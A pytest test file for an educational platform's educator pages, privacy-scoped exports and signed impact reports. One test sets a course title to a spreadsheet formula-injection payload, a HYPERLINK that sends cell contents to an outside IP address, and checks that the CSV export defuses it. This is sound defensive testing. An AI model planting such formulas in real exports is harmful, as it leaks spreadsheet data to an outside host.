"""Educator pages and exports: scope, assignments, plans, workbook review, CSV/xAPI
exports and the NGO impact report (suppression, no identifiers, signature)."""

from __future__ import annotations

import base64
import csv
import io
import json
import re
from pathlib import Path

import pytest
from click.testing import CliRunner
from cryptography.hazmat.primitives import serialization
from cryptography.hazmat.primitives.asymmetric.ed25519 import Ed25519PublicKey
from starlette.applications import Starlette
from starlette.testclient import TestClient

from server.cli.main import cli
from server.core.db import Database
from server.core.settings import Settings, load_settings
from server.learning import assignments, visibility, workbooks
from server.people import groups
from server.people.accounts import Role
from server.people.audit import Actor
from server.teaching import impact
from tests.conftest import CSRF_RE, FakeClock, People, make_user, sign_in

pytestmark = pytest.mark.demo  # each test has its own copy of the demo facility

SAFETY = "org.stepstone.demo.workplace-safety"
TRAPS = "org.stepstone.demo.thinking-traps"
SYSTEM = Actor.system("test")


@pytest.fixture
def classes(database: Database, people: People) -> tuple[int, int]:
    """Demo courses; the educator teaches group A (with `learner`); group B (with
    `other_learner`) is someone else's."""
    live = database.query("SELECT course_id FROM courses WHERE live_version_id IS NOT NULL")
    assert {row[0] for row in live} >= {SAFETY, TRAPS}
    a = groups.create_group(database, SYSTEM, "Class A", "class")
    b = groups.create_group(database, SYSTEM, "Class B", "class")
    groups.add_member(database, SYSTEM, a.id, people.educator.id)
    groups.add_member(database, SYSTEM, a.id, people.learner.id)
    groups.add_member(database, SYSTEM, b.id, people.other_learner.id)
    return a.id, b.id


def token(client: TestClient, path: str) -> str:
    match = CSRF_RE.search(client.get(path).text)
    assert match, path
    return match.group(1)


def send_workbook(client: TestClient, private: str, shared: str, database: Database) -> None:
    key = "catch-your-thoughts"
    row = database.query_one("SELECT live_version_id FROM courses WHERE course_id = ?", [TRAPS])
    assert row is not None
    lesson = visibility.lesson_of(visibility.lessons_of(database, row[0]), key)
    prompts = workbooks.prompts_of(lesson)
    private_prompt = next(p for p in prompts if p.visibility == "private" and p.type == "text")
    shared_prompt = next(p for p in prompts if p.visibility == "educator" and p.type == "text")
    path = f"/learn/courses/{TRAPS}/lessons/{key}"
    response = client.post(
        path + "/workbook",
        data={
            "csrf_token": token(client, path),
            "action": "submit",
            private_prompt.field_name: private,
            shared_prompt.field_name: shared,
        },
        follow_redirects=False,
    )
    assert response.status_code == 303


@pytest.mark.usefixtures("classes")
def test_assignments_reach_learners_and_scope_keeps_other_groups_out(
    app: Starlette, people: People, database: Database, classes: tuple[int, int]
) -> None:
    group_a, group_b = classes
    teacher = TestClient(app, base_url="http://testserver")
    sign_in(teacher, people.educator)
    page = f"/teach/groups/{group_a}"
    assert "Alex Learner" in teacher.get(page).text
    response = teacher.post(
        page + "/assign",
        data={
            "csrf_token": token(teacher, page),
            "course_id": SAFETY,
            "due_date": "2026-12-24",
            "note": "Start with the video",
        },
        follow_redirects=False,
    )
    assert response.status_code == 303
    learner = TestClient(app, base_url="http://testserver")
    sign_in(learner, people.learner)
    home = learner.get("/learn").text
    assert "From your teacher" in home and "Thursday, 24 December" in home
    assert "Start with the video" in home
    # A learner who joins the group later gets its assignments.
    late = make_user(database, Role.LEARNER, "C300", "Cam Late")
    groups.add_member(database, SYSTEM, group_a, late.id)
    assigned = visibility.assignments_for(database, late.id)
    assert SAFETY in assigned
    # Out of scope: another group, its learner, in pages and exports.
    assert teacher.get(f"/teach/groups/{group_b}").status_code == 404
    assert teacher.get(f"/teach/learners/{people.other_learner.id}").status_code == 404
    assert "Bea Learner" not in teacher.get("/teach/exports/progress.csv").text
    audit = database.query("SELECT action FROM audit_log WHERE action LIKE 'assignment.%'")
    assert [r[0] for r in audit] == ["assignment.add"]


def test_an_educator_takes_back_an_assignment_of_their_group_only(
    app: object, people: People, database: Database, classes: tuple[int, int]
) -> None:
    group_a, group_b = classes
    with database.write() as db:
        mine = assignments.assign_in(db, SYSTEM, SAFETY, group_id=group_a)
        theirs = assignments.assign_in(db, SYSTEM, SAFETY, group_id=group_b)
    teacher = TestClient(app, base_url="http://testserver")  # type: ignore[arg-type]
    sign_in(teacher, people.educator)
    page = f"/teach/groups/{group_a}"
    form = {"csrf_token": token(teacher, page), "back": page}
    refused = teacher.post(f"/teach/assignments/{theirs}/remove", data=form)
    assert refused.status_code == 404
    done = teacher.post(f"/teach/assignments/{mine}/remove", data=form, follow_redirects=False)
    assert done.status_code == 303 and done.headers["location"].startswith(page)
    assert SAFETY not in visibility.assignments_for(database, people.learner.id)
    assert SAFETY in visibility.assignments_for(database, people.other_learner.id)
    audit = database.query(
        "SELECT actor, target, detail FROM audit_log WHERE action = 'assignment.remove'"
    )
    assert [(r[0], r[1]) for r in audit] == [(people.educator.label, f"group:{group_a}")]
    assert json.loads(audit[0][2])["course"] == SAFETY


@pytest.mark.usefixtures("classes")
def test_workbook_review_shows_only_shared_answers_and_feedback_returns(
    app: Starlette, people: People, database: Database
) -> None:
    learner = TestClient(app, base_url="http://testserver")
    sign_in(learner, people.learner)
    send_workbook(learner, "my private zebra secret", "I could ask the officer", database)
    other = TestClient(app, base_url="http://testserver")
    sign_in(other, people.other_learner)
    send_workbook(other, "other private", "someone else's shared answer", database)
    teacher = TestClient(app, base_url="http://testserver")
    sign_in(teacher, people.educator)
    queue = teacher.get("/teach/reviews").text
    assert "Alex Learner" in queue and "Bea Learner" not in queue
    entry = re.search(r'href="/teach/reviews/(\d+)"', queue)
    assert entry
    page = teacher.get(f"/teach/reviews/{entry.group(1)}").text
    assert "I could ask the officer" in page
    assert "zebra" not in page
    assert "zebra" not in teacher.get(f"/teach/learners/{people.learner.id}").text
    other_entry = database.query_one(
        "SELECT id FROM workbook_entries WHERE user_id = ?", [people.other_learner.id]
    )
    assert other_entry is not None
    assert teacher.get(f"/teach/reviews/{other_entry[0]}").status_code == 404
    sent = teacher.post(
        f"/teach/reviews/{entry.group(1)}",
        data={"csrf_token": token(teacher, "/teach/reviews"), "feedback": "Good <b>work</b>"},
        follow_redirects=False,
    )
    assert sent.status_code == 303
    mine = learner.get(f"/learn/courses/{TRAPS}/lessons/catch-your-thoughts").text
    assert "Your teacher wrote:" in mine and "Good &lt;b&gt;work&lt;/b&gt;" in mine


@pytest.mark.usefixtures("classes")
def test_plan_dashboards_and_exports(
    app: Starlette, people: People, database: Database, settings: Settings, fake_clock: FakeClock
) -> None:
    learner = TestClient(app, base_url="http://testserver")
    sign_in(learner, people.learner)
    path = f"/learn/courses/{SAFETY}/lessons/protective-gear"
    form = {"csrf_token": token(learner, path)}
    fake_clock.advance(240)  # four minutes reading
    learner.post(path + "/done", data=form)
    teacher = TestClient(app, base_url="http://testserver")
    sign_in(teacher, people.educator)
    me = f"/teach/learners/{people.learner.id}"
    added = teacher.post(
        me + "/goals",
        data={
            "csrf_token": token(teacher, me),
            "title": "Finish safety training",
            "category": "vocational",
            "course_id": SAFETY,
            "target_date": "2027-01-31",
        },
        follow_redirects=False,
    )
    assert added.status_code == 303
    plan = learner.get("/learn/plan").text
    assert "Finish safety training" in plan and "1 of 7 lessons done" in plan
    board = teacher.get(me).text
    assert "Workplace Safety" in board and "Minutes spent per week" in board
    course = teacher.get(f"/teach/courses/{SAFETY}").text
    assert "Learners who finished each lesson" in course and "<svg" in course
    body = teacher.get("/teach/exports/progress.csv").content
    assert body.startswith("\ufeff".encode())  # spreadsheet programs read it as UTF-8
    rows = list(csv.DictReader(io.StringIO(body.decode("utf-8-sig"))))
    assert [(r["facility_id"], r["course_id"], r["lessons_done"]) for r in rows] == [
        ("A100", SAFETY, "1")
    ]
    statements = teacher.get("/teach/exports/xapi.json").json()
    assert statements and all("A100" not in json.dumps(s) for s in statements)
    assert statements[0]["verb"]["display"]["en-US"] == "completed"
    bad = teacher.get("/teach/exports/progress.csv?start=2026-13-01")
    assert bad.status_code == 400
    audit = database.query("SELECT action FROM audit_log WHERE action LIKE 'export.%'")
    assert [r[0] for r in audit] == ["export.progress", "export.xapi"]


def _fake_outcomes(database: Database, course_id: str, month: str, learners: int) -> None:
    """Learners who started and finished `course_id` in `month` (rows as the app makes)."""
    row = database.query_one("SELECT live_version_id FROM courses WHERE course_id = ?", [course_id])
    assert row is not None
    with database.write() as db:
        for n in range(learners):
            uid = db.execute(
                "INSERT INTO users (role, facility_id, display_name, secret_hash, created_at,"
                " updated_at) VALUES ('learner', ?, ?, 'x', 'now', 'now')",
                [f"Z{month}{course_id[-4:]}{n}", f"Person {month} {n}"],
            ).lastrowid
            db.execute(
                "INSERT INTO lesson_progress (user_id, course_id, lesson_key, status, started_at,"
                " completed_at, updated_at) VALUES (?, ?, 'k', 'done', ?, ?, ?)",
                [
                    uid,
                    course_id,
                    f"{month}-01T10:00:00+00:00",
                    f"{month}-05T10:00:00+00:00",
                    f"{month}-05T10:00:00+00:00",
                ],
            )
            db.execute(
                "INSERT INTO certificates (code, user_id, course_id, version_id, learner_name,"
                " facility_id, course_title, publisher, hours, facility, completed_at, issued_at)"
                " VALUES (?, ?, ?, ?, 'n', 'f', 't', 'p', 1, 'x', ?, ?)",
                [
                    f"CODE{uid:012d}",
                    uid,
                    course_id,
                    row[0],
                    f"{month}-05T10:00:00+00:00",
                    f"{month}-05T10:00:00+00:00",
                ],
            )


@pytest.mark.usefixtures("classes")
def test_impact_report_suppresses_small_cells_and_has_no_identifiers(
    client: TestClient, people: People, database: Database, settings: Settings
) -> None:
    _fake_outcomes(database, SAFETY, "2026-09", 12)
    _fake_outcomes(database, SAFETY, "2026-10", 3)
    report = impact.build(database, settings, "stepstone-demo")
    by_month = {(r["course_id"], r["month"]): r for r in report["rows"]}
    september = by_month[(SAFETY, "2026-09")]
    assert september["enrolments"] == 12 and september["completions"] == 12
    assert september["median_days_to_complete"] == 4.0
    october = by_month[(SAFETY, "2026-10")]
    assert october["enrolments"] is None and "enrolments" in october["suppressed"]
    total = next(r for r in report["totals"] if r["course_id"] == SAFETY)
    assert total["enrolments"] is None  # would reveal October by subtraction
    text = impact.to_json(report).decode() + impact.to_csv(report).decode()
    assert not re.search(r"Z2026|Person |CODE\d|A100|Alex", text)
    assert "<10" in impact.to_csv(report).decode()
    # The signed download verifies with the facility's public key.
    sign_in(client, people.admin)
    envelope = client.get("/admin/reports/impact.signed?publisher=stepstone-demo").json()
    key = serialization.load_pem_public_key(envelope["signature"]["public_key"].encode())
    assert isinstance(key, Ed25519PublicKey)
    key.verify(base64.b64decode(envelope["signature"]["value"]), impact.to_json(envelope["report"]))
    preview = client.get("/admin/reports/impact?publisher=stepstone-demo").text
    assert "Exactly what leaves the facility" in preview


def test_minimum_cell_size_cannot_go_below_five(tmp_path: Path) -> None:
    from server.core.errors import ConfigError

    with pytest.raises(ConfigError, match="at least 5"):
        load_settings(environ={}, data_dir=tmp_path, impact_min_cell=3)


@pytest.mark.usefixtures("classes")
def test_cli_exports_and_signed_impact_report(
    runner: CliRunner, settings: Settings, database: Database, tmp_path: Path
) -> None:
    _fake_outcomes(database, SAFETY, "2026-09", 10)
    base = ["--data-dir", str(settings.data_dir)]
    progress = runner.invoke(cli, [*base, "export", "completions", "--course", SAFETY])
    assert progress.exit_code == 0, progress.output
    assert progress.output.count(SAFETY) == 10
    assert progress.stdout_bytes.startswith("\ufeff".encode())  # a spreadsheet reads UTF-8
    missing = runner.invoke(cli, [*base, "export", "progress", "--group", "No such"])
    assert missing.exit_code == 1 and "No group is called 'No such'" in missing.output
    out = tmp_path / "impact.csv"
    signed = runner.invoke(
        cli,
        [*base, "report", "impact", "stepstone-demo", "--format", "csv", "-o", str(out), "--sign"],
    )
    assert signed.exit_code == 0, signed.output
    key = serialization.load_pem_public_key((tmp_path / "facility-report-key.pub.pem").read_bytes())
    assert isinstance(key, Ed25519PublicKey)
    key.verify(base64.b64decode((tmp_path / "impact.csv.sig").read_text()), out.read_bytes())
    assert "2026-09" in out.read_text()


@pytest.mark.usefixtures("classes")
def test_a_course_title_reaches_the_impact_csv_as_text_not_a_formula(
    client: TestClient, people: People, database: Database
) -> None:
    formula = '=HYPERLINK("http://203.0.113.9/?"&A1,"Open me")'
    with database.write() as db:
        db.execute(
            "UPDATE course_versions SET title = ?"
            " WHERE id = (SELECT live_version_id FROM courses WHERE course_id = ?)",
            [formula, SAFETY],
        )
    _fake_outcomes(database, SAFETY, "2026-09", 12)
    sign_in(client, people.admin)
    response = client.get("/admin/reports/impact.csv?publisher=stepstone-demo")
    assert response.status_code == 200
    rows = list(csv.DictReader(io.StringIO(response.text)))
    assert {r["course"] for r in rows if r["course_id"] == SAFETY} == {"'" + formula}


@pytest.mark.usefixtures("classes")
def test_group_board_filters_by_status(
    app: Starlette, people: People, database: Database, classes: tuple[int, int]
) -> None:
    group_a, _ = classes
    with database.write() as db:
        db.execute(
            "INSERT INTO assignments (course_id, group_id, due_date, created_at)"
            " VALUES (?, ?, '2020-01-01', 'now')",
            [SAFETY, group_a],
        )
    teacher = TestClient(app, base_url="http://testserver")
    sign_in(teacher, people.educator)
    late = teacher.get(f"/teach/groups/{group_a}?only=overdue").text
    assert "Alex Learner" in late and "Late" in late
    assert "Alex Learner" not in teacher.get(f"/teach/groups/{group_a}?only=done").text


@pytest.mark.usefixtures("classes")
def test_assigning_one_lesson_from_the_course_page(
    app: Starlette, people: People, database: Database, classes: tuple[int, int]
) -> None:
    group_a, group_b = classes
    teacher = TestClient(app, base_url="http://testserver")
    sign_in(teacher, people.educator)
    page = f"/teach/courses/{SAFETY}"
    form = {"csrf_token": token(teacher, page), "lesson_key": "safety-quiz"}
    outside = teacher.post(page + "/assign", data=form | {"group_id": str(group_b)})
    assert outside.status_code == 404
    wrong = teacher.post(
        page + "/assign", data=form | {"group_id": str(group_a), "lesson_key": "x"}
    )
    assert wrong.status_code == 400 and "Choose a lesson of this course." in wrong.text
    done = teacher.post(
        page + "/assign", data=form | {"group_id": str(group_a)}, follow_redirects=False
    )
    assert done.status_code == 303
    learner = TestClient(app, base_url="http://testserver")
    sign_in(learner, people.learner)
    course = learner.get(f"/learn/courses/{SAFETY}").text
    assert "Your teacher asked you to do this lesson:" in course
    assert "Quiz: workplace safety" in course
